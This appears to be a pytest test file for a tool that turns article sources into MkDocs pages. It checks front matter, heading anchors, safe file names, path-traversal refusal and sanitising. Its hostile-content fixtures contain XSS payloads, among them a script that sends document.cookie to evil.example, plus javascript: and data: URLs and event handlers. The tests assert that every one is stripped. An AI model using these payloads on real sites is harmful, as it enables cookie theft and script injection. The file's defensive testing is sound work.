    "wrong date": ("---\ntitle: One\npublished: August\n---\nText.\n",
                   "content_sources/articles/art.md:3: published: 'August' is not a date of the form YYYY, YYYY-MM or "
                   "YYYY-MM-DD"),
    "never closed": ("---\ntitle: One\n\nText that follows.\n",
                     "content_sources/articles/art.md:1: front matter opened with '---' on line 1 is never closed\n"
                     "    hint: end the metadata with a line holding only '---'"),
    "bad url": ("---\ntitle: One\nurl: javascript:alert(1)\n---\nText.\n",
                "content_sources/articles/art.md:3: url: 'javascript:alert(1)' is not a web address: write it as "
                "https://… (or leave 'url' out)"),
}


@pytest.mark.parametrize("kind", sorted(FRONT_MATTER_ERRORS))
def test_front_matter_problems_name_the_line_in_the_article(tmp_path, kind):
    text, message = FRONT_MATTER_ERRORS[kind]
    root = write_project(tmp_path, {"art.md": text}, [page("page-one", ["art"])])
    code, _, err = curate(root)
    assert code == 1
    assert message in err


def test_front_matter_in_a_plain_text_source_is_metadata_not_text(tmp_path):
    root = write_project(tmp_path, {"art.txt": "---\ntitle: \"Llama: explained\"\npublished: 2024-08\n---\n"
                                               "Lead paragraph of the article.\n"}, [page("page-one", ["art"])])
    code, _, err = curate(root)
    assert code == 0, err
    text = docs_text(root, "sources/art.md")
    assert front_matter(root, "sources/art.md")["title"] == "Llama: explained"
    assert "title:" not in text.split("\n---\n", 1)[1] and "Lead paragraph of the article." in text
    assert "published" not in err  # the date was read



def test_curate_check_and_mkdocs_report_the_same_error_without_a_traceback(tmp_path):
    # Built once while valid: mkdocs.yml inherits docs/.curate-mkdocs.json, which that build writes.
    root = write_project(tmp_path, {"art.txt": b"What is Llama?\n\nText more\n"}, [page("page-one", ["art"])])
    assert curate(root)[0] == 0
    before = snapshot(root / "docs")
    (root / "content_sources" / "articles" / "art.txt").write_bytes(b"What is Llama?\n\nText\x00more\n")
    (root / "content_sources" / "curation.yml").write_text(_one_page("title: What is Llama? #1 explainer"),
                                                           encoding="utf-8")
    code, _, err = curate(root, command="check")
    assert code == 1
    assert "error: content_sources/articles/art.txt:3: NUL byte at byte offset 20" in err
    assert "error: content_sources/curation.yml:6: pages[0].title: the text after ' #' is read as a YAML comment" in err
    env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
    proc = subprocess.run([str(BIN / "mkdocs"), "build", "--strict", "-q", "-f", str(root / "mkdocs.yml"),
                           "-d", str(root / "site")], capture_output=True, text=True, env=env, cwd=root)
    assert proc.returncode == 1
    assert "content_sources/articles/art.txt:3: NUL byte at byte offset 20" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert snapshot(root / "docs") == before

# =============================================================================================
# 3. headings and anchors
# =============================================================================================

HEADINGS = {  # heading → the id derived from its text
    "What’s “open” — really?": "whats-open-really",
    "Open–closed models: A/B & C": "openclosed-models-ab-c",
    "🚨 Breaking: weights leaked 🚨": "breaking-weights-leaked",
    "Что такое Llama?": "что-такое-llama",
    "ما هو لاما؟": "ما-هو-لاما",
    "नमस्ते दुनिया": "नमस्ते-दुनिया",
    "C# & F# – “.NET” tools": "c-f-net-tools",
    "Headings": "headings-896fe2",  # the page's own title slugs to "headings"; the id differs from it
    "Cleaning notes": "cleaning-notes-3b451a",  # reserved for the cleaning report
}
HEADINGS_MD = ("---\ntitle: Headings\n---\n" + "".join(f"## {h}\n\nText under {h}.\n\n" for h in HEADINGS)
               + "## 🔥🔥\n\nText under fire.\n\n## Background\n\nFirst background.\n\n"
               "## Background\n\nSecond background.\n")


@pytest.fixture(scope="module")
def headings_site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("headings") / "project"
    swapped = CASES["01-non-latin-headings/article.md"].decode().split("# ")
    write_project(root, {
        "nonlatin.md": CASES["01-non-latin-headings/article.md"],
        "swapped.md": "# ".join([swapped[0], swapped[2].rstrip("\n") + "\n\n", swapped[1].rstrip("\n") + "\n"]),
        "emoji.md": CASES["02-emoji-headings/article.md"],
        "headings.md": HEADINGS_MD,
        "dupes.txt": "Security threat\n\nLead.\n\nSecurity threat\n\nThe section shares the page's title.\n",
    }, [page("non-latin", ["nonlatin#什么是开源", "nonlatin#安全威胁", "swapped"]),
        page("emoji", ["emoji#security-threat"], "Security threat 🚨"),
        page("headings", ["headings"], "Headings"),
        page("security-threat", ["dupes"], "Security threat")])
    code, _, err = curate(root)
    assert code == 0, err
    mkdocs(root)
    return root


def test_case_01_non_latin_ids_come_from_the_text_and_survive_a_swap(headings_site):
    text = docs_text(headings_site, "sources/nonlatin.md")
    assert "## 什么是开源 { #什么是开源 }" in text and "## 安全威胁 { #安全威胁 }" in text
    swapped = docs_text(headings_site, "sources/swapped.md")
    assert swapped.index("{ #安全威胁 }") < swapped.index("{ #什么是开源 }")
    for path in ("sources/nonlatin.md", "sources/swapped.md"):
        page_html = site_html(headings_site, path)
        assert element_text(page_html, "什么是开源") == "什么是开源"
        assert element_text(page_html, "安全威胁--p1") == "A leaked model file is a security threat."
    assert "(sources/nonlatin.md#什么是开源--p1)" in docs_text(headings_site, "non-latin.md")
    assert "(sources/swapped.md#什么是开源--p1)" in docs_text(headings_site, "non-latin.md")


def test_case_02_emoji_heading_links_resolve_and_the_clickbait_is_gone(headings_site):
    assert "## Security threat 🚨 { #security-threat }" in docs_text(headings_site, "sources/emoji.md")
    assert "(sources/emoji.md#security-threat--p1)" in docs_text(headings_site, "emoji.md")
    assert element_text(site_html(headings_site, "sources/emoji.md"), "security-threat") == "Security threat 🚨"
    bait = ("Related Posts", "BELIEVE", "did next")
    for path, data in generated(headings_site).items():
        assert not any(b in data.decode() for b in bait), path
    for html_file in (headings_site / "site").rglob("*.html"):
        assert not any(b in html_file.read_text(encoding="utf-8") for b in bait), html_file
    assert not any(b in json.dumps(search_index(headings_site), ensure_ascii=False) for b in bait)


@pytest.mark.parametrize("heading", sorted(HEADINGS))
def test_heading_ids_are_derived_from_the_text(headings_site, heading):
    anchor = HEADINGS[heading]
    escaped = heading.replace('#', chr(92) + '#')
    assert f"## {escaped} {{ #{anchor} }}" in docs_text(headings_site, "sources/headings.md")
    assert element_text(site_html(headings_site, "sources/headings.md"), anchor) == heading


def test_same_heading_twice_gets_two_text_derived_ids_not_positional_ones(headings_site):
    text = docs_text(headings_site, "sources/headings.md")
    found = re.findall(r"## Background \{ #(background-[0-9a-f]{6}) \}", text)
    assert len(found) == 2 and len(set(found)) == 2
    fire = re.search(r"## 🔥🔥 \{ #(section-[0-9a-f]{6}) \}", text)
    assert fire, "a heading without letters still gets an id derived from it"


def test_heading_that_equals_the_page_title_does_not_share_its_id(headings_site):
    text = docs_text(headings_site, "sources/dupes.md")
    assert "# Security threat\n" in text
    assert "## Security threat { #security-threat-" in text
    h1 = re.search(r'<h1 id="([^"]+)"', site_html(headings_site, "sources/dupes.md")).group(1)
    assert h1 == "security-threat"


def test_every_fragment_resolves_and_no_page_repeats_an_id(headings_site):
    assert_links_resolve(headings_site)
    assert_no_duplicate_or_positional_ids(headings_site)
    assert_generated_output_is_clean(headings_site)


def test_section_ids_do_not_change_when_sections_are_reordered(tmp_path):
    sections = ["Background\n\nFirst background.", "Background\n\nSecond background.", "Что такое Llama?\n\nТекст.",
                "🚨 Alert 🚨\n\nLeaked.", "Security threat\n\nThreat text."]

    def section_ids(name: str, order: list[int]) -> dict[str, str]:
        text = "Reorder test\n\n" + "\n\n".join(sections[i] for i in order) + "\n"
        root = write_project(tmp_path / name, {"art.txt": text}, [page("p", ["art"])])
        assert curate(root)[0] == 0
        md = docs_text(root, "sources/art.md")
        return {m.group(2): m.group(1) for m in re.finditer(r"## .*? \{ #(\S+) \}\n\n(.*?)\n\{", md)}

    forward = section_ids("forward", [0, 1, 2, 3, 4])
    backward = section_ids("backward", [4, 3, 2, 1, 0])
    assert forward == backward
    assert forward["Текст."] == "что-такое-llama" and forward["Leaked."] == "alert"
    assert all(not re.search(r"_\d+$", i) for i in forward.values())



def test_intro_headings_that_would_get_numbered_ids_are_warned_about(tmp_path):
    intro = ("Intro.\n\n## Background\n\nx\n\n## Details\n\ny\n\n## Details\n\nz\n\n```\n## Details\n```\n\n"
             "## From the reporting\n\n## Own { #own-details }\n")
    root = write_project(tmp_path, {"a.txt": "T\n\nText.\n"}, [page("page-one", ["a"], "Background")],
                         intros={"page-one.md": intro})
    code, _, err = curate(root)
    assert code == 0
    assert ("warning: content_sources/pages/page-one.md:3: heading 'Background' gets the same anchor (#background) "
            "as the page title 'Background'; MkDocs would give one of them a numbered id\n    hint: reword the "
            "heading, or give it its own id: ## Heading { #my-id }") in err
    assert ("content_sources/pages/page-one.md:11: heading 'Details' gets the same anchor (#details) as the heading "
            "on line 7") in err
    assert ("content_sources/pages/page-one.md:19: heading 'From the reporting' gets the same anchor "
            "(#from-the-reporting) as the heading 'From the reporting' curate adds") in err
    assert err.count("content_sources/pages/page-one.md:") == 3  # not the fenced one, not the one with its own id

# =============================================================================================
# 4. slugs and paths
# =============================================================================================

def _titles_07() -> list[str]:
    return [t for t in CASES["07-titles-to-file-names/titles.txt"].decode().split("\n") if t]


def test_case_07_titles_that_slug_alike_are_an_error_naming_both_files(tmp_path):
    articles = {f"{t}.txt": f"{t}\n\nText of the article called {t}.\n" for t in _titles_07()}
    root = write_project(tmp_path, articles, [page("page-one")])
    code, _, err = curate(root)
    assert code == 1
    assert ("content_sources/articles/What is Llama?.txt: gives the same source id 'what-is-llama' as "
            "content_sources/articles/What is Llama!.txt\n    hint: rename one of the two files") in err
    assert not (root / "docs" / "sources").exists()


def test_case_07_titles_make_safe_file_names_and_links_resolve(tmp_path):
    articles = {f"{t}.txt": f"{t}\n\nText of the article called {t}.\n" for t in _titles_07()[:3]}
    pages = [page(pid, [sid], title) for pid, sid, title in [
        ("what-is-open-source", "what-is-open-source", "What is ‘open source’?"),
        ("security-threat", "security-threat-llama-leak", "Security threat: Llama leak"),
        ("what-is-llama", "what-is-llama", "What is Llama?"),
        ("what-is-llama-now", "what-is-llama", "What is Llama!")]]
    root = write_project(tmp_path, articles, pages)
    code, _, err = curate(root)
    assert code == 0, err
    assert sorted(generated(root)) == ["glossary.md", "index.md", "security-threat.md", "sources/index.md",
                                       "sources/security-threat-llama-leak.md", "sources/what-is-llama.md",
                                       "sources/what-is-open-source.md", "tags.md", "what-is-llama-now.md",
                                       "what-is-llama.md", "what-is-open-source.md"]
    assert_generated_output_is_clean(root)
    mkdocs(root)
    assert_links_resolve(root)
    assert front_matter(root, "what-is-llama-now.md")["title"] == "What is Llama!"


BAD_PAGE_IDS = {
    "../escape": "'../escape' is not allowed: a page id becomes a file name in docs/, so it may not hold '..', '/', "
                 "'\\', a drive letter or an absolute path",
    "/etc/passwd": "'/etc/passwd' is not allowed: a page id becomes a file name in docs/",
    "C:evil": "'C:evil' is not allowed: a page id becomes a file name in docs/",
    "a/b": "'a/b' is not allowed",
    "a\\\\b": "'a\\b' is not allowed",
    "What-Is-Llama": "'What-Is-Llama' is not a valid id: use lower-case ASCII letters, digits and '-' (for example "
                     "'what-is-llama')",
    "-dash": "'-dash' is not a valid id",
    "什么": "'什么' is not a valid id: use lower-case ASCII letters, digits and '-'",
    "index": "'index' is reserved for a page curate writes itself; choose another id",
    "sources": "'sources' is reserved for a page curate writes itself",
}


@pytest.mark.parametrize("pid", sorted(BAD_PAGE_IDS))
def test_unsafe_page_ids_are_refused(tmp_path, pid):
    curation = ("site:\n  title: Test\n  description: A test.\npages:\n"
                f"  - id: \"{pid}\"\n    title: A page\n    description: A page.\n")
    err = _curation_error(tmp_path, curation)
    assert f"content_sources/curation.yml:5: pages[0].id: {BAD_PAGE_IDS[pid]}" in err
    assert not any(tmp_path.parent.glob("escape*")) and not (tmp_path / "docs" / "a").exists()


def test_two_pages_with_one_id_are_an_error_naming_both_lines(tmp_path):
    curation = curation_yaml([page("what-is-llama", [], "What is Llama?"), page("what-is-llama", [], "What is Llama!")])
    err = _curation_error(tmp_path, curation)
    assert ("content_sources/curation.yml:8: pages[1].id: page id 'what-is-llama' is used twice (first on line 5)\n"
            "    hint: give each page its own id") in err


@pytest.mark.parametrize("intro", ["../../etc/passwd", "/etc/passwd", "C:/intro.md", "pages\\x.md", "pages/../../x.md"])
def test_intro_paths_outside_content_sources_are_refused(tmp_path, intro):
    err = _curation_error(tmp_path, curation_yaml([page("page-one", [], intro_path=intro)]))
    assert (f"content_sources/curation.yml:8: pages[0].intro: '{intro}' is not allowed: give a path inside "
            "content_sources/, such as pages/what-is-llama.md (no '..', no absolute path, no drive letter, "
            "no '\\')") in err


def test_symbolic_links_out_of_the_project_are_refused(tmp_path):
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("Secret title\n\nThe secret outside the project.\n", encoding="utf-8")
    root = write_project(tmp_path / "project", {"good.txt": "Good title\n\nGood text.\n"}, [page("page-one", ["good"])])
    (root / "content_sources" / "articles" / "leak.txt").symlink_to(secret)
    (root / "content_sources" / "pages" / "page-one.md").unlink()
    (root / "content_sources" / "pages" / "page-one.md").symlink_to(secret)
    code, _, err = curate(root)
    assert code == 1
    assert (f"content_sources/articles/leak.txt: it is a symbolic link to {secret}, outside the project; curate "
            "reads nothing outside it\n    hint: copy the file into content_sources/ instead of linking to it") in err
    assert f"content_sources/pages/page-one.md: it is a symbolic link to {secret}, outside the project" in err
    assert not (root / "docs" / "index.md").exists()


def test_a_linked_folder_out_of_the_project_is_refused(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("Secret\n\nThe secret outside the project.\n", encoding="utf-8")
    root = write_project(tmp_path / "project", {}, [page("page-one")])
    articles = root / "content_sources" / "articles"
    articles.rmdir()
    articles.symlink_to(outside, target_is_directory=True)
    code, _, err = curate(root)
    assert code == 1
    assert (f"content_sources/articles: it is a symbolic link to {outside}, outside the project; curate reads "
            "nothing outside it") in err
    assert "curate build: 1 error;" in err  # the folder, not each file in it


def test_a_symbolic_link_inside_the_project_is_fine(tmp_path):
    root = write_project(tmp_path, {"real.txt": "Real title\n\nReal text.\n"}, [page("page-one", ["alias"])])
    (root / "content_sources" / "articles" / "alias.txt").symlink_to("real.txt")
    code, _, err = curate(root)
    assert code == 0, err
    assert "Real text." in docs_text(root, "sources/alias.md")


SOURCE_NAME_ERRORS = {
    "same stem, two formats": ({"llama.txt": "T\n\nText.\n", "llama.md": "Text.\n"},
                               "content_sources/articles/llama.txt: gives the same source id 'llama' as "
                               "content_sources/articles/llama.md"),
    "reserved name": ({"index.txt": "T\n\nText.\n"},
                      "content_sources/articles/index.txt: the source id 'index' is reserved (docs/sources/index.md is "
                      "the list of sources)\n    hint: rename the file, such as index-article.txt"),
    "no latin letters": ({"什么是开源.txt": "T\n\nText.\n"},
                         "content_sources/articles/什么是开源.txt: the file name gives an empty id\n    hint: rename "
                         "the file with Latin letters or digits, such as llama-article.txt"),
    "case only": ({"Llama.txt": "T\n\nText.\n", "llama.txt": "T\n\nOther.\n"},
                  "content_sources/articles/llama.txt: gives the same source id 'llama' as "
                  "content_sources/articles/Llama.txt"),
}


@pytest.mark.parametrize("kind", sorted(SOURCE_NAME_ERRORS))
def test_source_file_names_that_clash_or_give_no_id_are_errors(tmp_path, kind):
    articles, message = SOURCE_NAME_ERRORS[kind]
    root = write_project(tmp_path, articles, [page("page-one")])
    code, _, err = curate(root)
    assert code == 1
    assert message in err


def test_source_file_names_become_safe_ascii_slugs(tmp_path):
    names = ["Ünïcödé Tïtle.txt", "  spaces  and__underscores .txt", "UPPER CASE!!.md", "2024-07-23 report.txt",
             "emoji 🚨 inside.txt", "dots.in.name.txt"]
    root = write_project(tmp_path, {n: "A title\n\nSome text.\n" for n in names}, [page("page-one")])
    code, _, err = curate(root)
    assert code == 0, err
    assert sorted(p for p in generated(root) if p.startswith("sources/")) == [
        "sources/2024-07-23-report.md", "sources/dots-in-name.md", "sources/emoji-inside.md", "sources/index.md",
        "sources/spaces-and-underscores.md", "sources/unicode-title.md", "sources/upper-case.md"]
    assert_generated_output_is_clean(root)


# =============================================================================================
# 5. hostile content
# =============================================================================================

HOSTILE_TXT = (
    CASES["06-script-injection/article.txt"].decode()
    + "\nA frame follows. <iframe src=\"https://evil.example/frame\">fallback frame text</iframe> Then more text.\n"
    "\nStyled text. <style>body { display: none }</style> Still here.\n"
    "\nA <a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data link</a> and "
    "<img src=\"data:image/svg+xml,<svg onload=alert(3)>\"> an image.\n"
    "\nVisible before. <!-- hidden single-line secret --> Visible after.\n"
    "\nBefore the long comment.\n\n<!-- hidden across\n\nparagraphs secret two\n\n-->\n\nAfter the long comment.\n"
    "\n<svg onload=\"alert(4)\"><circle r=\"1\"/></svg> Vector text survives.\n"
    "\n<div onclick=\"alert(5)\" style=\"color:red\">Div text survives.</div>\n"
    "\n<script>\nvar stolen = document.cookie;\n\nfetch('https://evil.example/' + stolen);\n</script>\n"
    "\nAfter the script block.\n"
    "\n<form action=\"javascript:alert(6)\"><input value=\"x\" onfocus=\"alert(7)\"></form>Form text survives.\n"
    "\nComparison x < y and y > z survives, and so does 3<4.\n"
    "\nSome <unknown-tag> stays as text, and so does an unclosed <!-- comment opener.\n"
    "\nAT&amp;T and &lt;b&gt; are entities, decoded as text.\n"
)
HOSTILE_MD = (
    "---\ntitle: \"<script>x()</script> Hostile Markdown\"\npublisher: \"<b>Evil Corp</b> <i>News</i>\"\n---\n"
    "# Hostile markdown\n\nA [link](javascript:alert(9)) in Markdown. ![chart](data:image/png;base64,AAAA)\n\n"
    "<div onmouseover=\"alert(10)\">\n\nBlock HTML text survives.\n\n</div>\n\n"
    "Inline <span onclick=\"alert(11)\">span text</span> survives; `<script>` in code stays literal.\n\n"
    "<script>alert(12)</script>\n\n"
    "<!--\n\nA comment hiding a paragraph secret three.\n\n-->\n\nThe last paragraph survives.\n"
)
SURVIVING = [
    "Researchers found a leaked model file.", "See details.", "The rest of the paragraph must survive.",
    "A frame follows. Then more text.", "Styled text. Still here.", "A data link and an image.",
    "Visible before. Visible after.", "Before the long comment.", "After the long comment.",
    "Vector text survives.", "Div text survives.", "After the script block.", "Form text survives.",
    "Comparison x < y and y > z survives, and so does 3<4.",
    "Some <unknown-tag> stays as text, and so does an unclosed <!-- comment opener.",
    "AT&T and <b> are entities, decoded as text.",
]
SURVIVING_MD = ["A link in Markdown.", "Block HTML text survives.",
                "Inline span text survives; <script> in code stays literal.", "The last paragraph survives."]
PAYLOADS = ["evil.example", "alert(", "document.cookie", "secret", "display: none", "fallback frame", "onerror",
            "onload", "onclick", "onmouseover", "onfocus", "javascript:", "data:text/html", "data:image"]


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile") / "project"
    write_project(root, {"hostile.txt": HOSTILE_TXT, "hostile-md.md": HOSTILE_MD},
                  [page("security-threat", ["hostile", "hostile-md"], "Security threat",
                        description='Hostile <b>bold</b> description " autofocus x="')])
    code, _, err = curate(root)
    assert code == 0, err
    mkdocs(root)
    return root


def test_case_06_sentences_survive_and_no_script_reaches_docs_or_site(hostile_site):
    text = docs_text(hostile_site, "sources/hostile.md")
    assert "Researchers found a leaked model file.\n{ #lead--p1 }" in text
    page_html = article(site_html(hostile_site, "sources/hostile.md"))
    assert element_text(page_html, "lead--p1") == "Researchers found a leaked model file."
    assert element_text(page_html, "lead--p2") == "See details."
    assert element_text(page_html, "lead--p3") == "The rest of the paragraph must survive."


@pytest.mark.parametrize("sentence", SURVIVING)
def test_surrounding_sentences_survive_in_docs_site_and_search(hostile_site, sentence):
    visible = text_of(article(site_html(hostile_site, "sources/hostile.md")))
    assert sentence in visible
    assert sentence in text_of(article(site_html(hostile_site, "security-threat.md")))
    assert searchable(hostile_site, "security-threat/", sentence)


@pytest.mark.parametrize("sentence", SURVIVING_MD)
def test_markdown_source_keeps_its_text_and_loses_its_markup(hostile_site, sentence):
    assert sentence in text_of(article(site_html(hostile_site, "sources/hostile-md.md")))


def test_no_payload_reaches_docs_site_or_search_index(hostile_site):
    outputs = {f"docs/{p}": d.decode() for p, d in generated(hostile_site).items()}
    outputs.update({str(p.relative_to(hostile_site)): p.read_text(encoding="utf-8")
                    for p in (hostile_site / "site").rglob("*.html")})
    outputs["search_index.json"] = (hostile_site / "site" / "search" / "search_index.json").read_text(encoding="utf-8")
    for name, text in outputs.items():
        lowered = html.unescape(text).lower().replace('href="javascript:void(0)"', "")  # the theme's search button
        assert [p for p in PAYLOADS if p in lowered] == [], name


def test_no_source_markup_is_an_element_or_attribute_in_the_rendered_pages(hostile_site):
    for path in ("sources/hostile.md", "sources/hostile-md.md", "security-threat.md"):
        found = elements(article(site_html(hostile_site, path)))
        # the theme's own: article, the edit button (a, svg, path); curate's: a source's heading over its
        # passages (h3), citation marks (sup), the references (ol) and the folded "For editors" block (details,
        # summary); footnotes (div, hr, ol, sup)
        assert {tag for tag, _ in found} <= {"article", "a", "svg", "path", "h1", "h2", "h3", "p", "ul", "li", "strong",
                                             "details", "summary",
                                             "em", "code", "sup", "div", "ol", "hr"}, path
        for tag, attrs in found:
            assert not [a for a in attrs if a.startswith("on") or a in ("style", "srcdoc", "formaction")], (path, tag)
            for key in ("href", "src", "action", "xlink:href"):
                assert not re.match(r"\s*(javascript|data|vbscript):", attrs.get(key) or "", re.I), (path, tag)
    assert "<svg" not in docs_text(hostile_site, "sources/hostile.md")


def test_hostile_metadata_is_shown_as_text_never_as_markup(hostile_site):
    fm = front_matter(hostile_site, "sources/hostile-md.md")
    assert fm["title"] == "&lt;script&gt;x()&lt;/script&gt; Hostile Markdown"  # HTML-safe for any renderer
    fm["title"] = html.unescape(fm["title"])
    page_html = site_html(hostile_site, "sources/hostile-md.md")
    assert "<script>x()" not in page_html and "<b>Evil Corp</b>" not in page_html
    assert element_text(page_html, re.search(r'<h1 id="([^"]+)"', page_html).group(1)) == fm["title"]
    assert text_of(re.search(r"<title>(.*?)</title>", page_html, re.DOTALL).group(1)).startswith(fm["title"])
    assert "Publisher: <b>Evil Corp</b> <i>News</i>" in text_of(article(page_html))
    assert "**Publisher:** &lt;b&gt;Evil Corp&lt;/b&gt; &lt;i&gt;News&lt;/i&gt;" in \
        docs_text(hostile_site, "sources/hostile-md.md")
    explainer = site_html(hostile_site, "security-threat.md")
    meta = [attrs for tag, attrs in elements(explainer) if tag == "meta" and attrs.get("name") == "description"]
    assert meta == [{"name": "description", "content": 'Hostile <b>bold</b> description " autofocus x="'}]
    assert "<b>bold</b>" not in explainer
    assert 'Hostile <b>bold</b> description " autofocus x="' in text_of(article(explainer))




# =============================================================================================
# 6. Markdown and template look-alikes
# =============================================================================================

LOOK_ALIKES = [  # each a paragraph of a plain-text source; each must show exactly as written
    "See [the weights](javascript:alert(1)) for details.",
    "Templates like {{ config.site_name }} stay text.",
    "Jinja blocks like {% include 'x.html' %} stay text.",
    "---",
    "***",
    "# This line starts with a hash.",
    "| a | b | is not a table.",
    "> This is not a quotation.",
    "1. This is not a list.",
    "2) Nor is this.",
    "- Nor this.",
    "+ Nor this one.",
    "<!-- this comment opener is never closed.",
    "!!! note is not an admonition.",
    "??? note is not a details block.",
    "~~~ is not a fence.",
    "``` is not a fence either.",
    "*[HTML]: is not an abbreviation.",
    "[^1]: is not a footnote.",
    "[ref]: https://example.org is not a link definition.",
    "{: .class } is not an attribute list.",
    "a = b ~ c ^ d $e and 2 * 3 _x_ `y`.",
    "=== is not an underline.",
    "A path that ends in a backslash:\nC:\\temp\\",
    "\\* an escaped star stays escaped.",
]
LOOK_ALIKE_HEADINGS = ["{{ heading }} with braces", "#1 reason <why>", "[link](x) heading", "`code` heading"]


@pytest.fixture(scope="module")
def look_alike_site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("lookalikes") / "project"
    text = "Look-alikes\n\n" + "\n\n".join(LOOK_ALIKES) + "\n\n" + "".join(
        f"{h}\n\nText under the heading {i}.\n\n" for i, h in enumerate(LOOK_ALIKE_HEADINGS))
    md = ("---\ntitle: Markdown look-alikes\n---\nTemplates {{ config.site_name }} and {% if x %} stay text.\n\n"
          "A [javascript link](javascript:alert(1)) keeps only its text.\n")
    write_project(root, {"look.txt": text, "look-md.md": md}, [page("look-alikes", ["look", "look-md"])])
    code, _, err = curate(root)
    assert code == 0, err
    mkdocs(root)
    return root


@pytest.mark.parametrize("n", range(1, len(LOOK_ALIKES) + 1))
def test_look_alike_lines_render_as_the_literal_source_text(look_alike_site, n):
    expected = LOOK_ALIKES[n - 1].replace("\n", " ")  # lines of one paragraph are joined
    assert element_text(site_html(look_alike_site, "sources/look.md"), f"lead--p{n}") == expected.strip()
    explainer = text_of(article(site_html(look_alike_site, "look-alikes.md")))
    assert expected.strip() in explainer
    assert searchable(look_alike_site, "look-alikes/", expected.strip())


@pytest.mark.parametrize("heading", LOOK_ALIKE_HEADINGS)
def test_look_alike_headings_render_as_the_literal_source_text(look_alike_site, heading):
    page_html = site_html(look_alike_site, "sources/look.md")
    headings = [text_of(m) for m in re.findall(r"<h2[^>]*>(.*?)</h2>", page_html, re.DOTALL)]
    assert heading in headings


def test_templates_in_markdown_sources_stay_text_and_links_keep_only_their_text(look_alike_site):
    visible = text_of(article(site_html(look_alike_site, "sources/look-md.md")))
    assert "Templates {{ config.site_name }} and {% if x %} stay text." in visible
    assert "A javascript link keeps only its text." in visible
    assert "Test site" not in visible.replace("Test site built", "")  # the template was not run


def test_look_alikes_add_no_element_to_the_page(look_alike_site):
    found = elements(article(site_html(look_alike_site, "sources/look.md")))
    tags = {tag for tag, _ in found}
    assert tags <= {"article", "a", "svg", "path", "h1", "h2", "p", "ul", "li", "strong", "code", "details", "summary"}
    assert not (tags & {"table", "blockquote", "ol", "hr", "pre", "abbr"})
    # one <details>: curate's folded "For editors" block; a look-alike in the source adds none
    assert [attrs for tag, attrs in found if tag == "details"] == [{"class": "info"}]
    assert_no_duplicate_or_positional_ids(look_alike_site)


# =============================================================================================
# 7. degenerate sources
# =============================================================================================

BIG_PARAGRAPH = " ".join(f"Word{i % 97} of the endless paragraph." for i in range(7000))  # about 200 KB
DEGENERATE = {
    "empty.txt": "",
    "blank.txt": "\n \n\t\n",
    "draft.md": "---\ntitle: Draft\n---\n",
    "headingless.txt": "Llama is a model family from Meta. Its licence is not OSI open source.\n",
    "title-only.txt": "Just a title\n",
    "headings-only.md": "# One\n\n## Two\n\n### Three\n",
    "boilerplate-only.txt": "Related Posts\n\nYou won’t believe this\n\nTen reasons why\n",
    "markup-only.txt": "<script>alert(1)</script>\n\n<!-- nothing here -->\n",
    "empty-section.txt": "Empty section test\n\nLead text here.\n\nEmpty section\n\n<script>alert(1)</script>\n\n"
                         "Good section\n\nGood text.\n",
    "big-paragraph.txt": "Big paragraph\n\n" + BIG_PARAGRAPH + "\n",
    "good.txt": "Good article\n\nSome good text.\n",
}
NO_PAGE = {
    "empty.txt": "the file is empty; it makes no page",
    "blank.txt": "the file is empty; it makes no page",
    "draft.md": "the file holds only front matter, no article text; it makes no page",
    "title-only.txt": "source has no text after cleaning; it makes no page",
    "headings-only.md": "source has no text after cleaning; it makes no page",
    "boilerplate-only.txt": "source has no text after cleaning; it makes no page",
    "markup-only.txt": "source has no text after cleaning; it makes no page",
}


@pytest.fixture(scope="module")
def degenerate_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("degenerate") / "project"
    write_project(root, DEGENERATE, [page("page-one", ["good", "headingless", "empty-section#good-section"],
                                          tags=["models"]),
                                     page("page-two", ["empty", "draft"])])
    code, out, err = curate(root)
    assert code == 0, err
    mkdocs(root)
    return root, err


@pytest.mark.parametrize("name", sorted(NO_PAGE))
def test_empty_sources_warn_naming_the_file_and_make_no_page_or_nav_entry(degenerate_site, name):
    root, err = degenerate_site
    assert (f"warning: content_sources/articles/{name}: {NO_PAGE[name]}\n    hint: check the file is the "
            "article you meant to add") in err
    stem = name.rsplit(".", 1)[0]
    assert not (root / "docs" / "sources" / f"{stem}.md").exists()
    assert not (root / "site" / "sources" / stem).exists()
    nav = json.dumps(json.loads((root / "docs" / ".curate-manifest.json").read_text())["nav"])
    assert f"sources/{stem}.md" not in nav
    assert f"sources/{stem}.md" not in docs_text(root, "sources/index.md")


def test_case_08_headingless_text_becomes_one_passage_titled_from_the_file_name(degenerate_site):
    root, err = degenerate_site
    assert ("warning: content_sources/articles/headingless.txt: source has no headings: all its text is one "
            "section, the lead\n    hint: if the article has sections, put each heading on a line of its own") in err
    assert front_matter(root, "sources/headingless.md")["title"] == "Headingless"
    page_html = site_html(root, "sources/headingless.md")
    assert element_text(page_html, "lead--p1") == DEGENERATE["headingless.txt"].strip()
    assert ("lead--p2" not in ids(page_html))


def test_a_page_fed_only_by_empty_sources_warns_and_has_no_empty_section(degenerate_site):
    root, err = degenerate_site
    assert ("warning: content_sources/curation.yml:13: pages[1].sections[0]: source 'empty' has no text, so page "
            "'page-two' gets nothing from it\n    hint: see the warning on content_sources/articles/empty.txt") in err
    text = docs_text(root, "page-two.md")
    assert "From the reporting" not in text and "[^" not in text
    assert "An introduction in the editor's own words." in text


def test_a_section_empty_after_cleaning_is_left_out_with_a_warning(degenerate_site):
    root, err = degenerate_site
    assert ("warning: content_sources/articles/empty-section.txt:5: section 'Empty section' has no text after "
            "cleaning; it is left out") in err
    text = docs_text(root, "sources/empty-section.md")
    assert "Empty section" not in text.replace("Empty section test", "") and "Good text." in text


def test_a_huge_paragraph_is_kept_whole_with_a_warning(degenerate_site):
    root, err = degenerate_site
    assert (f"warning: content_sources/articles/big-paragraph.txt:3: paragraph of {len(BIG_PARAGRAPH):,} characters "
            "(more than 20,000): its line breaks are probably lost; it is kept as one paragraph") in err
    assert len(BIG_PARAGRAPH) > 200_000
    assert BIG_PARAGRAPH in docs_text(root, "sources/big-paragraph.md")
